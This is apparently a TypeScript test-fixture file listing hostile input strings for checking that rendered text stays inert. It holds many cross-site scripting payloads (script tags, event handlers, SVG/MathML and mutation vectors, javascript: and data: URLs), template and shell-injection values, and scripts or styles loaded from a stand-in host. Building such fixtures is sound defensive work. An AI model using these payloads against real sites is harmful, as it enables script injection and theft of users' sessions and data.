/** What a script in the texts would call, and where it would ask. */
export const TRAP = 'sprung()';
export const ELSEWHERE = 'elsewhere.example';

const TAGS = [
  `<script>${TRAP}</script>`,
  `<SCRIPT/x>${TRAP}</SCRIPT >`,
  `<scr<script>ipt>${TRAP}</scr</script>ipt>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script type=module>import('//${ELSEWHERE}/x.js')</script>`,
  `</p></article><script>${TRAP}</script>`,
  `</script><script>${TRAP}</script>`,
  `</textarea><script>${TRAP}</script>`,
  `</title><script>${TRAP}</script>`,
  `--><script>${TRAP}</script><!--`,
  `<!--[if gte IE 4]><script>${TRAP}</script><![endif]-->`,
  `]]><script>${TRAP}</script>`,
  `<iframe src="javascript:${TRAP}"></iframe>`,
  `<iframe srcdoc="<script>parent.${TRAP}</script>"></iframe>`,
  `<object data="javascript:${TRAP}"></object>`,
  `<embed src="//${ELSEWHERE}/x.svg">`,
  `<base href="//${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=//${ELSEWHERE}/">`,
  `<link rel=stylesheet href="//${ELSEWHERE}/x.css">`,
  `<form action="//${ELSEWHERE}/"><button autofocus>Send</button></form>`,
  `<template><script>${TRAP}</script></template>`,
  `<div><template shadowrootmode="open"><script>${TRAP}</script></template></div>`,
  `<portal src="//${ELSEWHERE}/"></portal>`,
  `&lt;script&gt;${TRAP}&lt;/script&gt;`,
  `&#60;script&#62;${TRAP}&#60;/script&#62;`,
];

const ATTRIBUTES = [
  `<img src=x onerror=${TRAP}>`,
  `<img src=x onerror="${TRAP}"//`,
  `<img/src="x"/onerror='${TRAP}'>`,
  `<IMG """><SCRIPT>${TRAP}</SCRIPT>">`,
  `" onfocus="${TRAP}" autofocus="`,
  `' onmouseover='${TRAP}`,
  `" style="animation-name:x" onanimationstart="${TRAP}`,
  `<body onload=${TRAP}>`,
  `<details open ontoggle=${TRAP}>x</details>`,
  `<video><source onerror=${TRAP}></video>`,
  `<audio src=x onerror=${TRAP}></audio>`,
  `<input autofocus onfocus=${TRAP}>`,
  `<select autofocus onfocus=${TRAP}></select>`,
  `<marquee onstart=${TRAP}>x</marquee>`,
  `<x contenteditable onblur=${TRAP} tabindex=1 id=x>y</x>`,
  `<img srcset="//${ELSEWHERE}/x.png 1x">`,
  `<div id=page></div><a name=page id=page>`,
];

const FOREIGN = [
  `<svg onload=${TRAP}></svg>`,
  `<svg><script>${TRAP}</script></svg>`,
  `<svg><animate onbegin=${TRAP} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${TRAP}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${TRAP}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${TRAP}'/>#x"/></svg>`,
  `<math><mtext><script>${TRAP}</script></mtext></math>`,
  `<math href="javascript:${TRAP}">x</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${TRAP}">x</maction></math>`,
];

/** Harmless until a parser writes them out and reads them again. */
const MUTATING = [
  `<svg></p><style><a id="</style><img src=1 onerror=${TRAP}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${TRAP}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${TRAP}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${TRAP}>`,
  `<xmp><p title="</xmp><svg/onload=${TRAP}>"></p></xmp>`,
  `<listing>&lt;img src=1 onerror=${TRAP}&gt;</listing>`,
  `<a href="x\`y"onmouseover="${TRAP}">z</a>`,
];

const ADDRESSES = [
  `javascript:${TRAP}`,
  `JaVaScRiPt:${TRAP}`,
  `java\tscript:${TRAP}`,
  `<a href="javascript:${TRAP}">here</a>`,
  `[here](javascript:${TRAP})`,
  `![x](//${ELSEWHERE}/x.png)`,
  `data:text/html,<script>${TRAP}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zcHJ1bmcoKTwvc2NyaXB0Pg==`,
  `vbscript:${TRAP}`,
  `//${ELSEWHERE}/x`,
];

const CODE = [
  `\${${TRAP}}`,
  `\`\${${TRAP}}\``,
  `{{constructor.constructor('${TRAP}')()}}`,
  `#{${TRAP}}`,
  `<%= ${TRAP} %>`,
  `');${TRAP};('`,
  `");${TRAP};("`,
  `\\");${TRAP};//`,
  `\\u0022);${TRAP};//`,
  `*/${TRAP};/*`,
  `"""\n${TRAP}\n"""`,
  `JSON\n$(touch sprung)\nJSON`,
  '`touch sprung`',
  `'; touch sprung; '`,
  `@base64-of:sprung`,
  `"@base64-of:sprung"`,
  `__proto__`,
  `constructor`,
];

const STYLES = [
  `<style>body{display:none}</style>`,
  `<style>@import '//${ELSEWHERE}/x.css'</style>`,
  `<p style="background:url(//${ELSEWHERE}/x.png)">x</p>`,
  `}body{background:url(javascript:${TRAP})`,
  `expression(${TRAP})`,
];

const LETTERS = [
  `＜script＞${TRAP}＜/script＞`,
  `‹script›${TRAP}‹/script›`,
  `\u02bcscript\u02bc \u02ba onload=${TRAP}`,
  `<ſcript>${TRAP}</ſcript>`,
  `<\u0000script>${TRAP}</\u0000script>`,
  `before\u0000after`,
  `left \u202eretfa nettirw\u202c right`,
  `\u2066\u2067isolated\u2069 \u200e\u200f marks`,
  `\u061cالسلام عليكم <b>`,
  `zero\u200bwidth\u2060joined\ufefftext`,
  `two\u2028lines\u2029more`,
  `e${'\u0301'.repeat(200)}`,
  `👩\u200d👩\u200d👧\u200d👦 🏴\u{e0067}\u{e0062}\u{e007f}`,
  `\u001b[2J\u0007bell`,
  `+ADw-script+AD4-${TRAP}+ADw-/script+AD4-`,
  'W'.repeat(3_000),
];

/** Texts of which none may become anything else than text. None begins or ends with a blank. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...TAGS,
  ...ATTRIBUTES,
  ...FOREIGN,
  ...MUTATING,
  ...ADDRESSES,
  ...CODE,
  ...STYLES,
  ...LETTERS,
];
